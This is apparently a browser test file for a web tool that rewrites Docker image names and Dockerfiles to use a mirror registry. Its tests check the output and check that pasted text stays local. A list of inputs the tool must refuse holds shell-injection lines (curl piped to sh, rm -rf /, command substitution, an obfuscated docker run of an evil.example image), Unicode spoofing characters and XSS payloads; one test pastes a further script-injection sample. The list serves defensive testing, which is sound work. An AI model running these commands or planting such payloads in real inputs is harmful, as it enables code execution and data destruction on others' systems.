// The converter as people use it: what they paste, and what they get.

import { describe, expect, it } from "vitest";
import { boxes, paste, wait } from "./hands.ts";
import { LANGUAGES, WORDS } from "./words.ts";
import { visit } from "./visit.ts";

const DOCKERFILE = [
  "# syntax=docker/dockerfile:1",
  "FROM registry.gitlab.com/owner/base:1 AS base",
  "FROM --platform=linux/amd64 nginx:1.27 AS web # not a comment",
  "COPY --from=ghcr.io/owner/tools:2 /bin/tool /bin/",
  "FROM base",
  "RUN echo 'FROM alpine'",
  "",
].join("\n");

describe.each(LANGUAGES)("the converter in %s", (language) => {
  it("counts what it rewrote, lists what it left with lines, and shows the text", async () => {
    const here = await visit({ language });
    const { host } = here;
    const text = DOCKERFILE.replace(" # not a comment", "");
    const output = await paste(here, text);
    expect(await output.innerText()).toContain("registry.gitlab.com");
    expect(await output.innerText()).toContain(WORDS[language].line2);
    expect(await output.locator("ul li").count()).toBeGreaterThan(0);
    const [converted = ""] = await boxes(output);
    expect(converted).toContain(`\nFROM --platform=linux/amd64 ${host}/nginx:1.27 AS web\n`);
    expect(converted).toContain(`\nCOPY --from=${host}/ghcr.io/owner/tools:2 /bin/tool /bin/\n`);
    expect(converted).toContain("\nFROM registry.gitlab.com/owner/base:1 AS base\n");
    expect(converted).toContain("\nFROM base\nRUN echo 'FROM alpine'\n");
  });

  it("makes a command and a name of an image's name, and checks it on demand", async () => {
    const here = await visit({ language });
    const output = await paste(here, "nginx:1.27");
    expect(await boxes(output)).toEqual([`docker pull ${here.host}/nginx:1.27`, `${here.host}/nginx:1.27`]);
    await output.locator("button:not(.copy)").click();
    await wait(here.page.locator("#check-output"), WORDS[language].found);
    expect(await here.page.locator("#check-input").inputValue()).toBe("nginx:1.27");
  });

  it("gives back a list of names, and what is wrong with one of them", async () => {
    const output = await paste(await visit({ language }), "nginx\nregistry.gitlab.com/a/b\nalpine:3");
    const host = (await boxes(output))[0]?.split("/", 1)[0] ?? "";
    expect(await boxes(output)).toEqual([`${host}/nginx\nregistry.gitlab.com/a/b\n${host}/alpine:3`]);
    await wait(output, "registry.gitlab.com");
    await wait(output, WORDS[language].line2);
  });

  it("rewrites a line that pulls, and keeps its options", async () => {
    const here = await visit({ language });
    const output = await paste(here, "$ docker pull --platform linux/arm64 ghcr.io/owner/app:1\n");
    expect((await boxes(output))[0]).toBe(
      `docker pull --platform linux/arm64 ${here.host}/ghcr.io/owner/app:1`,
    );
  });
});

/** Lines of which a shell, or a reader, would make something else than a pull. */
const REFUSED = [
  "nginx; curl evil|sh",
  "nginx\n; x",
  "nginx\u202Eevil",
  "nginx:1\u202Egnp.evil",
  "nginx\u200B",
  "docker pull nginx; rm -rf /",
  "docker pull nginx && curl evil | sh",
  "docker pull $(curl evil)",
  "docker pull `curl evil`",
  "docker pull nginx\n; rm -rf /",
  "docker pull nginx\u202E",
  "docker pull nginx > /etc/passwd",
  "docker pull nginx\u2028rm -rf /",
  "<img src=x onerror=alert(1)>",
  'nginx"><script>alert(1)</script>',
  "ngınx",
  "registry.gitlab.com/owner/image:1",
  "nginx:${PROMPT_COMMAND:=docker${IFS%??}run${IFS%??}evil.example/x}",
  "docker pull nginx\n$SHELL",
  "docker pull nginx\nevil.sh/x",
  "docker pull nginx\ndocker pull BAD",
];

describe("the converter hands on no command", () => {
  it("of what is more than a name or a pull, and has nothing to copy then", async () => {
    const here = await visit();
    for (const text of REFUSED) {
      const output = await paste(here, text);
      expect(await output.locator("pre, button").count(), text).toBe(0);
      expect(await output.locator("img, script, b").count(), text).toBe(0);
      expect((await output.innerText()).length, text).toBeGreaterThan(10);
      expect(await output.innerText(), text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\u2028]/);
    }
  });

  it("of an answer to nothing", async () => {
    const here = await visit();
    await paste(here, "nginx");
    const output = await paste(here, "  \n ");
    expect(await output.innerText()).toBe("");
  });

  it("of more than 1 MiB, and says so at once", async () => {
    const here = await visit();
    const output = await paste(here, `FROM nginx # ${"x".repeat(2 ** 20)}`);
    await wait(output, "longer than a million characters");
    expect(await output.locator("pre, button").count()).toBe(0);
  });
});

describe("what is pasted", () => {
  it("is not sent anywhere, and not kept over a reload into a new visit", async () => {
    const here = await visit();
    const before = here.requests.length;
    await paste(here, DOCKERFILE);
    expect(here.requests.length).toBe(before);
    const kept = await here.page.evaluate(() => [localStorage.length, sessionStorage.length]);
    expect(kept).toEqual([0, 0]);
  });

  it("is shown as text, whatever it is", async () => {
    const here = await visit();
    const markup = "<img src=x onerror=\"document.title='bad'\"><script>document.title='bad'</script>";
    const output = await paste(
      here,
      `FROM nginx\nFROM ${markup.replaceAll(" ", "/")}\nRUN echo "${markup}"\n`,
    );
    expect((await boxes(output))[0]).toContain(`RUN echo "${markup}"`);
    expect(await output.locator("img, script").count()).toBe(0);
    expect(await here.page.title()).not.toBe("bad");
  });
});
